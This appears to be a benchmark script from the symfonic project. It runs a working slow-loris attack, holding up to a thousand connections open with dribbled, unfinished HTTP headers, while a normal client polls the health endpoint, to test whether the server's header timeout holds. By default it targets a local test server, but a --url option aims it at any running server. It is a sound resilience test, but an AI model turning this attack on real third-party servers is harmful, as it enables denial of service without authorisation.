"""``python -m bench.slowloris``: the slow-loris attack on a real ``symfonic serve``.

It opens ``--connections`` connections that each start a request and then send
one more header line every ``--interval`` seconds, never finishing the headers,
while a normal client asks ``GET /v1/health`` once a second. After
``--duration`` seconds it prints how many attack connections are still open and
how the normal client fared. A server that holds the attack has closed them all
and answered the normal client throughout.

Without ``--url`` it starts ``symfonic serve`` on a free loopback port with an
embedded store in a temporary directory; arguments after ``--`` go to it
(``python -m bench.slowloris -- --header-timeout 5``).
"""

from __future__ import annotations

import argparse
import asyncio
import os
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import httpx


@dataclass
class Tally:
    opened: int = 0
    refused: int = 0
    closed_at: list[float] = field(default_factory=list)
    served: list[float] = field(default_factory=list)
    failed: list[str] = field(default_factory=list)


async def _slow_connection(host: str, port: int, interval: float, start: float, tally: Tally,
                           stop: asyncio.Event) -> None:
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        tally.refused += 1
        return
    tally.opened += 1
    try:
        writer.write(f"GET /v1/health HTTP/1.1\r\nHost: {host}\r\n".encode())
        line = 0
        while not stop.is_set():
            # Whatever the server sends (a 408, or nothing) and then EOF: the connection is over.
            read = asyncio.ensure_future(reader.read(65536))
            stopped = asyncio.ensure_future(stop.wait())
            done, _ = await asyncio.wait({read, stopped}, timeout=interval,
                                         return_when=asyncio.FIRST_COMPLETED)
            stopped.cancel()
            if read in done:
                if not read.result():
                    tally.closed_at.append(time.monotonic() - start)
                    return
                continue
            read.cancel()
            if stop.is_set():
                return
            line += 1
            writer.write(f"X-Slow-{line}: {'a' * 10}\r\n".encode())
            await writer.drain()
    except OSError:
        tally.closed_at.append(time.monotonic() - start)
    finally:
        writer.close()
        with suppress(OSError):
            await writer.wait_closed()


async def _normal_client(url: str, start: float, tally: Tally, stop: asyncio.Event) -> None:
    async with httpx.AsyncClient(timeout=5) as client:
        while not stop.is_set():
            began = time.monotonic()
            try:
                response = await client.get(f"{url}/v1/health")
                if response.status_code == 200:
                    tally.served.append(time.monotonic() - began)
                else:
                    tally.failed.append(f"{began - start:.0f}s: status {response.status_code}")
            except httpx.HTTPError as error:
                tally.failed.append(f"{began - start:.0f}s: {type(error).__name__}")
            with suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), timeout=1.0)


async def attack(url: str, connections: int, interval: float, duration: float) -> Tally:
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    tally = Tally()
    stop = asyncio.Event()
    start = time.monotonic()
    tasks = [
        asyncio.ensure_future(_slow_connection(host, port, interval, start, tally, stop))
        for _ in range(connections)
    ]
    tasks.append(asyncio.ensure_future(_normal_client(url, start, tally, stop)))
    await asyncio.sleep(duration)
    stop.set()
    await asyncio.gather(*tasks)
    return tally


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@contextmanager
def serving(serve_args: list[str]) -> Iterator[str]:
    """A ``symfonic serve`` process on a free port and a throwaway store; its base URL."""
    port = _free_port()
    with tempfile.TemporaryDirectory(prefix="symfonic-slowloris-") as workdir:
        store = f"sqlite:///{Path(workdir) / 'slowloris.db'}"
        command = [sys.executable, "-m", "symfonic", "serve", "--port", str(port),
                   "--store", store, "--log-level", "warning", *serve_args]
        env = {**os.environ, "SYMFONIC_API_KEYS": ""}
        process = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL)
        url = f"http://127.0.0.1:{port}"
        try:
            _wait_healthy(url, process)
            yield url
        finally:
            process.terminate()
            try:
                process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()


def _wait_healthy(url: str, process: subprocess.Popen[bytes]) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise SystemExit("symfonic serve exited before it was healthy")
        with suppress(httpx.TransportError):
            if httpx.get(f"{url}/v1/health", timeout=1).status_code == 200:
                return
        time.sleep(0.1)  # polling a socket in another process
    raise SystemExit("symfonic serve did not become healthy in 30 s")


def report(tally: Tally, connections: int, duration: float) -> str:
    still_open = tally.opened - len(tally.closed_at)
    closed = sorted(tally.closed_at)
    lines = [
        f"attack connections: {connections} opened {tally.opened}, refused at connect "
        f"{tally.refused}",
        f"still open after {duration:g} s: {still_open}",
    ]
    if closed:
        lines.append(
            f"closed by the server: {len(closed)}, the first at {closed[0]:.1f} s, "
            f"the median at {closed[len(closed) // 2]:.1f} s, the last at {closed[-1]:.1f} s"
        )
    served = sorted(tally.served)
    if served:
        lines.append(
            f"normal client: {len(served)} of {len(served) + len(tally.failed)} requests "
            f"served, median {served[len(served) // 2] * 1000:.0f} ms, "
            f"slowest {served[-1] * 1000:.0f} ms"
        )
    else:
        lines.append(f"normal client: none of {len(tally.failed)} requests served")
    lines += [f"  failed at {failure}" for failure in tally.failed[:10]]
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.slowloris", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--url", help="attack this running server instead of starting one")
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--interval", type=float, default=5.0,
                        help="seconds between header lines on each connection")
    parser.add_argument("--duration", type=float, default=40.0)
    parser.add_argument("serve_args", nargs="*", help="arguments for symfonic serve, after --")
    args = parser.parse_args(argv)
    if args.url:
        tally = asyncio.run(attack(args.url, args.connections, args.interval, args.duration))
    else:
        with serving(args.serve_args) as url:
            tally = asyncio.run(attack(url, args.connections, args.interval, args.duration))
    print(report(tally, args.connections, args.duration))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
